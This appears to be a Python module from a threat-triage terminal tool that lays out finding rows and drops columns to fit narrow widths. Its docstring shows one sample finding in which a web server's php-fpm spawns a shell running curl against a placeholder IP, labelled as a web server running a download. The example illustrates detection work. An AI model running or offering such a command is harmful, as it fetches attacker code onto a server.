"""The cells of a line of the list, for any width: which columns there is room for, and what gives way first.

    ▌Mh█ 03-03 18:16 web01   www-data    php-fpm → sh: curl -s http://192.0.2.7…  web server runs a download     17

The phrase is never cut, nor the name of the program; what stands before them leaves instead: the parent, the account, the host,
the time. So in one line; for all lines together, which stay in columns, what somebody chose beyond the usual leaves where the
command would have too little.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace

from tui.words.learnt_words import percent
from tui.words.spans import Line, Span, cells, crop, fit, tail_crop
from tui.words.triage.commands import ASIDE
from tui.words.triage.finding_line import FindingLine
from tui.words.triage.marks import letter
from tui.words.triage.phrases import WIDEST
from tui.words.words import base

When = Callable[[int | None], str]
NARROW, WIDE, WIDEST_SCREEN = 100, 140, 160
"""Cells from which on there is room for account, parent and day; for the technique; for whole host names."""
BLOCKS = " ▁▂▃▄▅▆▇█"
ARROW = " → "
PARENT, ACCOUNT, HOST = (12, 20), (11, 18), (7, 12)
"""Cells below WIDEST_SCREEN, and from there on."""
LEAST = (24, 28)
"""Cells that the command has at least below NARROW, and from there on, whatever columns are chosen."""
EXTRAS = ("chance", "place", "last", "score", "hosts")
"""What leaves for it, in this order."""
CHOSEN = ("time", "host", "user", "parent", "why", "technique", "processes")
"""Columns beside the command, until somebody chooses others."""
TITLES: Mapping[str, str] = {
    "time": "time of the first odd process",
    "last": "time of the last process",
    "host": "host",
    "user": "account, and the one it rises to",
    "parent": "what started it",
    "why": "why, in words",
    "technique": "technique of ATT&CK",
    "processes": "processes × occurrences",
    "hosts": "how many hosts",
    "score": "score",
    "place": "place in the learnt order",
    "chance": "how likely labels make it malicious",
}
"""What can be chosen, in the order in which it stands."""


@dataclass(frozen=True, slots=True)
class RowLook:
    """How lines are drawn."""

    when: When
    columns: Sequence[str] = CHOSEN
    days: bool = True
    """Whether the day is told; a case of one day needs none."""


def row_cells(
    line: FindingLine, width: int, look: RowLook, *, sign: str | None = None, verdict: str = "", muted: bool = False
) -> Line:
    """Exactly `width` cells: verdict, the highest level of a mark, block, the columns. sign: in place of the line's own verdict;
    verdict: role of that; muted: all of a line that is decided.
    """
    look = replace(look, columns=with_room(width, look))
    before = _before(line, width, look)
    behind = _behind(line, width, look)
    room = width - HEAD - sum(size + 1 for _, size, _ in before) - _cells_of(behind)
    # The program's name is whole whatever it costs.
    needed = min(cells(_name(line)), width - HEAD - _cells_of(behind))
    for column in ("user", "host", "last", "time"):  # from the command on, so that what is left stays in its column
        if room >= needed:
            break
        gone = [one for one in before if one[0] == column]
        before = [one for one in before if one[0] != column]
        room += sum(size + 1 for _, size, _ in gone)
    out: Line = [
        ((line.verdicts if sign is None else sign) or " ", verdict),
        (letter(line.marks), "warning") if line.marks else (" ", ""),
        (BLOCKS[line.strength], "warning"),
        (" ", ""),
    ]
    for _, size, spans in before:
        out += [*fit(spans, size), (" ", "")]
    out += fit(
        _command(line, room, parent=PARENT[width >= WIDEST_SCREEN] if "parent" in look.columns and width >= NARROW else 0), room
    )
    out += behind
    return fit([(text, "dim" if muted and (place or not verdict) else role) for place, (text, role) in enumerate(out)], width)


HEAD = 4
"""Cells of verdict, mark and block."""


def with_room(width: int, look: RowLook) -> tuple[str, ...]:
    """The chosen columns that lines of so many cells have room for: the same for every line of a list."""
    kept = [name for name in TITLES if name in look.columns]
    for extra in EXTRAS:
        if width - HEAD - sum(_size(name, width, look) for name in kept) >= LEAST[width >= NARROW]:
            break
        kept = [name for name in kept if name != extra]
    return tuple(kept)


def _size(column: str, width: int, look: RowLook) -> int:
    """Cells of a column with the blanks beside it; 0 for one that has none of its own in lines of this width."""
    wide, widest = width >= NARROW, width >= WIDEST_SCREEN
    return {
        "time": 12 if look.days and wide else 6,
        "last": 12 if look.days and wide else 6,
        "host": HOST[widest] + 1,
        "user": ACCOUNT[widest] + 1 if wide else 0,
        "why": WIDEST + 2,
        "technique": 10 if width >= WIDE else 0,
        "score": 6,
        "place": 5,
        "chance": 5,
        "hosts": 5,
        "processes": 7 if wide else 5,
    }.get(column, 0)


def short_time(text: str, *, days: bool) -> str:
    """03-03 18:16 or 18:16 of a time as it is told elsewhere; "" for none."""
    return (f"{text[5:10]} {text[11:16]}" if days else text[11:16]) if len(text) >= 16 else text


def _before(line: FindingLine, width: int, look: RowLook) -> list[tuple[str, int, Line]]:
    """(column, cells, spans) of what stands in front of the command."""
    days = look.days and width >= NARROW
    sizes = {name: _size(name, width, look) - 1 for name in ("time", "last", "host", "user")}
    made: dict[str, Line] = {
        "time": [(short_time(look.when(line.time_us), days=days), "dim")],
        "last": [(short_time(look.when(line.last_us), days=days), "dim")],
        "host": [(crop(line.host, sizes["host"]), "")],
        "user": _user(line, sizes["user"]),
    }
    return [(name, sizes[name], spans) for name, spans in made.items() if name in look.columns and sizes[name] > 0]


def _user(line: FindingLine, size: int) -> Line:
    if not line.user_rise:
        return [(crop(line.user, max(size, 0)), "")]
    rise = f"⇡{crop(line.user_rise, 6)}"
    return [(crop(line.user, max(size - cells(rise), 0)), ""), (rise, "warning")]


def _behind(line: FindingLine, width: int, look: RowLook) -> Line:
    """The phrase, which is never cut, and the figures."""
    out: Line = []
    if "why" in look.columns:
        out += [("  ", ""), *fit([(line.why, "warning")], WIDEST)]
    if "technique" in look.columns and width >= WIDE:
        out += [(" ", ""), *fit([(line.technique, "dim")], 9)]
    if "score" in look.columns:
        out += [(f" {line.score:>5.3g}"[:6], "dim")]
    if "place" in look.columns:
        out.append((f" {'' if line.place is None else short_number(line.place):>4}", "dim"))
    if "chance" in look.columns:
        out.append((f" {percent(line.chance):>4}", ""))
    if "hosts" in look.columns:
        out += [(f" {short_number(line.hosts):>4}", "")]
    if "processes" in look.columns:
        size = _size("processes", width, look) - 1
        times = f"×{short_number(line.occurrences)}" if line.occurrences > 1 else ""
        figure = short_number(line.processes) + times
        out.append((f" {figure if len(figure) <= size else short_number(line.processes):>{size}}", ""))
    return out


def _command(line: FindingLine, room: int, *, parent: int) -> Line:
    """`parent`: cells that its name may have, 0: it is not shown."""
    spans: list[Span] = []
    if parent and line.parent:
        name = crop(line.parent, parent)
        # Of a long name of a program the parent gives way, not the name.
        if cells(name) + len(ARROW) + cells(line.command[0][0]) <= room:
            spans = [(name, ""), (ARROW, "dim")]
    return [*spans, *cut(line.command, room - _cells_of(spans))]


def cut(spans: tuple[Span, ...], width: int) -> list[Span]:
    """At most `width` cells: cut at the end, and of the program only its directory, never its name."""
    out: list[Span] = []
    for place, (text, role) in enumerate(spans):
        room = width - sum(cells(shown) for shown, _ in out)
        if room <= 0:
            break
        # The name is the last part of a program's path, and what is cut is cut in front of it.
        if cells(text) <= room:
            shown = text
        elif role == ASIDE:
            shown = f" ({tail_crop(text[2:-1], room - 3)})" if room > len(" (…)") else ""
        else:
            shown = tail_crop(text, room).replace("……", "…") if place == 0 else crop(text, room)
        out.append((shown, role))
    return out


def _name(line: FindingLine) -> str:
    """The program's file name, with room for the sign that its directory is cut."""
    program = line.command[0][0] if line.command else ""
    name = base(program)
    return name if name == program else f"…{name}"


def _cells_of(spans: Sequence[Span]) -> int:
    return sum(cells(text) for text, _ in spans)


def short_number(number: int) -> str:
    """At most four cells."""
    if number < 10_000:
        return str(number)
    return f"{number // 1000}k" if number < 1_000_000 else f"{number // 1_000_000}M"
